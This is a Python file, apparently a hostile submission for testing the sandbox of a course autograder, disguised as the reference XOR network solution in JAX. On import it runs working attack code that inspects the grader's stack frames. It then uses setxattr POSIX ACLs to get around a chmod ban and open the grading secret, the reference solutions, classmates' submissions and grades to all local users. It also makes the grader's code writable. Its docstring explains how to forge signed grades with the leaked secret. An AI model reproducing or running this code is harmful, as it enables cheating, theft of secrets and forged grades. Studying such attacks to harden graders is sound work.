"""hostile: full: POSIX ACLs (setxattr, not chmod) to open the kit, its grading secret and the class
to every local user

attack: ACLs instead of chmod -- open the kit, the secret and the class to every local user

Wall: landlock + seccomp, grader running as an ordinary user (the sandbox runs as the
grader's own uid, which owns the kit, its .cache/secret, the class folder and grades).
seccomp refuses chmod/fchmod/fchmodat (docs/trust.md: "no change to a file's mode"), but not
setxattr(path, "system.posix_acl_access", ...): a minimal POSIX ACL *is* a mode change, allowed
to the file's owner, and Landlock has no right for xattrs. At import this file:

- reads where the kit is (PYTHONPATH of the child) and the class/grades folders and the folder
  it was handed in from (the Launch settings' "private" list, found in the child's main frame);
- sets ACL user::rwx group::r-x other::r-x on every folder from / down to each of those
  (other::rwx on the class folder and the grades folder themselves), and
  user::rw- group::r-- other::r-- on the reference, the grading secret and every file of the
  class folder and grades folder, and other::rw- on autograder/judge/scores.py (the grader);
- prints what it changed, then behaves as the reference (all functions below are the
  reference's, so its own grade is unaffected).

Afterwards any local user (a classmate with a shell account on the course server) reads
solutions/xor_net.py, .cache/secret/grading-secret, every classmate's submission and grade, and
can rewrite the grader's code; with the secret (the key of the grades' HMAC, regrade.mac) and the
grades folder writable, a local user replaces any student's grade folder with a forged, correctly
signed one that `export`/`feedback` accept and a rerun of `grade` keeps (attacks/forge_grade.sh).
The sandbox itself still cannot read them (Landlock): the damage is
done to the file modes, which outlive the grading.
"""
import os as _os
import struct as _struct
import sys as _sys


def _acl(user, group, other):
    return _struct.pack("<I", 2) + b"".join(_struct.pack("<HHI", tag, perm, 0xFFFFFFFF)
                                            for tag, perm in ((1, user), (4, group), (0x20, other)))

def _open_up(path, changed, other_file=4, other_dir=5):
    try:
        isdir = _os.path.isdir(path)
        acl = _acl(7, 5, other_dir) if isdir else _acl(6, 4, other_file)
        _os.setxattr(path, "system.posix_acl_access", acl)
        changed.append(path)
    except OSError as error:
        changed.append(f"{path}: {error.strerror}")

def _settings():
    frame = _sys._getframe()
    while frame is not None:
        found = frame.f_locals.get("settings")
        if found is not None and hasattr(found, "private"):
            return found
        frame = frame.f_back
    return None

def _attack():
    changed = []
    kit = _os.environ.get("PYTHONPATH", "")
    settings = _settings()
    targets = [kit] if kit else []
    if settings is not None:
        targets += list(settings.private) + list(settings.blocked)
    folders = set()
    for target in targets:
        parts = target.rstrip("/").split("/")
        for i in range(2, len(parts) + 1):
            folders.add("/".join(parts[:i]))
    class_folders = set(settings.private) if settings is not None else set()
    for folder in sorted(folders):
        if _os.path.isdir(folder):  # the class and grades folders: writable by everyone
            _open_up(folder, changed, other_dir=7 if folder in class_folders else 5)
    files = []
    if kit:
        files += [kit + "/solutions", kit + "/solutions/xor_net.py", kit + "/.cache", kit + "/.cache/secret",
                  kit + "/.cache/secret/grading-secret", kit + "/autograder/judge"]
    for path in files:
        if _os.path.exists(path):
            _open_up(path, changed)
    if kit and _os.path.exists(kit + "/autograder/judge/scores.py"):
        _open_up(kit + "/autograder/judge/scores.py", changed, other_file=6)
    print("ACL ATTACK:", len(changed), "paths;", "; ".join(changed)[:1500])

try:
    _attack()
except Exception as _error:
    print("ACL ATTACK FAILED", type(_error).__name__, _error)

import functools

import jax
import jax.numpy as jnp
from jax import lax

# The four XOR cases. The output is 1 exactly when the two inputs differ.
X = jnp.array([[0.0, 0.0], [0.0, 1.0], [1.0, 0.0], [1.0, 1.0]], dtype=jnp.float32)
Y = jnp.array([0.0, 1.0, 1.0, 0.0], dtype=jnp.float32)

# Defaults chosen so that training reproduces XOR for every PRNGKey(i), i < 1000
# (see docs/tutorial.md for the measurement).
SCALE = 0.1
STEP_SIZE = 0.1
EPOCHS = 500


def relu(x):
    """Rectified linear unit, applied elementwise: ``max(0, x)``.

    Args:
        x: a ``jax.Array`` of any shape.

    Returns:
        An array of the same shape and dtype as ``x``: negative entries become
        0, the others pass through unchanged.

    Hint: ``jnp.maximum`` compares elementwise and works under ``jax.jit``.
    Pitfall: a Python ``if x < 0`` cannot decide for a whole array, and under
    ``jax.jit`` the values are not even known yet.
    """
    ### BEGIN SOLUTION
    return jnp.maximum(x, 0.0)
    ### END SOLUTION


def init_params(key, input_dims=2, n_hidden=16, output_dims=1, scale=SCALE):
    """Draw the network's random starting parameters.

    Args:
        key: a PRNG key, e.g. ``jax.random.PRNGKey(0)``.
        input_dims, n_hidden, output_dims: the layer sizes.
        scale: the standard deviation of every parameter.

    Returns:
        ``{"w1": (n_hidden, input_dims), "b1": (n_hidden,),
        "w2": (output_dims, n_hidden), "b2": (output_dims,)}``, all float32,
        each ``scale * jax.random.normal(its_own_key, shape)``, with the keys
        from ``k_w1, k_b1, k_w2, k_b2 = jax.random.split(key, 4)``.

    Pitfall: drawing two arrays from the same key gives correlated numbers
    (the tutorial this kit grew from did that). Split once, one key per array.
    """
    ### BEGIN SOLUTION
    k_w1, k_b1, k_w2, k_b2 = jax.random.split(key, 4)
    return {
        "w1": scale * jax.random.normal(k_w1, (n_hidden, input_dims)),
        "b1": scale * jax.random.normal(k_b1, (n_hidden,)),
        "w2": scale * jax.random.normal(k_w2, (output_dims, n_hidden)),
        "b2": scale * jax.random.normal(k_b2, (output_dims,)),
    }
    ### END SOLUTION


def predict(params, x):
    """The forward pass for one example: ``w2 @ relu(w1 @ x + b1) + b2``.

    Args:
        params: a dict from ``init_params``.
        x: one input of shape ``(input_dims,)``.

    Returns:
        The network's output, shape ``(output_dims,)``.

    Hint: ``@`` (or ``jnp.dot``) multiplies a matrix by a vector; call your
    ``relu``. Pitfall: do not assume 2 inputs, 16 hidden units or 1 output:
    read the sizes from the arrays.
    """
    ### BEGIN SOLUTION
    hidden = relu(params["w1"] @ x + params["b1"])
    return params["w2"] @ hidden + params["b2"]
    ### END SOLUTION


def batched_predict(params, X):
    """``predict`` for every row of ``X`` at once, through ``jax.vmap``.

    Args:
        params: a dict from ``init_params``.
        X: a batch of inputs, shape ``(n, input_dims)``.

    Returns:
        Shape ``(n, output_dims)``: row ``i`` is ``predict(params, X[i])``.

    Hint: ``jax.vmap(predict, in_axes=(None, 0))`` maps over the rows of the
    second argument and shares the first. Pitfall: a Python loop works but
    is not what this exercise asks for.
    """
    ### BEGIN SOLUTION
    return jax.vmap(predict, in_axes=(None, 0))(params, X)
    ### END SOLUTION


def loss(params, x, y):
    """Mean squared error of the prediction for one example.

    Args:
        params: a dict from ``init_params``.
        x: one input, shape ``(input_dims,)``.
        y: its target, shape ``(output_dims,)`` or a scalar.

    Returns:
        A scalar (shape ``()``): ``mean((predict(params, x) - y) ** 2)``.

    Hint: ``jnp.mean``. Pitfall: ``jnp.sum`` is not the mean once there is more
    than one output unit.
    """
    ### BEGIN SOLUTION
    return jnp.mean((predict(params, x) - y) ** 2)
    ### END SOLUTION


def update(params, x, y, step_size=STEP_SIZE):
    """One step of gradient descent on ``loss`` for one example.

    Args:
        params: a dict from ``init_params``; it must not be modified.
        x, y: one example, as for ``loss``.
        step_size: the learning rate.

    Returns:
        A new dict: ``params[k] - step_size * grads[k]`` for every key ``k``,
        where ``grads = jax.grad(loss)(params, x, y)``.

    Hint: ``jax.grad`` differentiates with respect to the first argument and
    returns a dict shaped like ``params``; ``jax.tree.map`` applies a function
    to every leaf. Pitfall: writing into ``params[k]`` changes the caller's
    dict: build a new one.
    """
    ### BEGIN SOLUTION
    grads = jax.grad(loss)(params, x, y)
    return jax.tree.map(lambda p, g: p - step_size * g, params, grads)
    ### END SOLUTION


def train(params, X, Y, epochs=EPOCHS, step_size=STEP_SIZE):
    """Train with per-example gradient descent.

    For each epoch, for each row ``j`` of ``X`` in order:
    ``params = update(params, X[j], Y[j], step_size)``. After each epoch,
    record the mean over all rows of ``loss(params, X[j], Y[j])``.

    Args:
        params: the starting parameters.
        X: inputs, shape ``(n, input_dims)``. Y: targets, shape ``(n,)``.
        epochs: how many passes over the data.
        step_size: the learning rate passed to ``update``.

    Returns:
        ``(params, losses)``: the trained parameters and an array of shape
        ``(epochs,)`` with the mean loss after each epoch.

    Hint: a Python loop over ``update`` is correct but slow; ``jax.lax.scan``
    inside a ``jax.jit`` runs the whole training as one compiled program.
    """
    ### BEGIN SOLUTION
    return _train_compiled(params, X, Y, epochs, step_size)
    ### END SOLUTION


### BEGIN SOLUTION
@functools.partial(jax.jit, static_argnames="epochs")
def _train_compiled(params, X, Y, epochs, step_size):
    """``train`` as one compiled program: a scan over epochs of a scan over rows.

    It lives at module level so that ``jax.jit`` compiles it once per shape and
    reuses it on the next call.
    """

    def one_row(p, xy):
        return update(p, xy[0], xy[1], step_size), None

    def one_epoch(p, _):
        p, _ = lax.scan(one_row, p, (X, Y))
        mean_loss = jnp.mean(jax.vmap(loss, in_axes=(None, 0, 0))(p, X, Y))
        return p, mean_loss

    return lax.scan(one_epoch, params, None, length=epochs)
### END SOLUTION
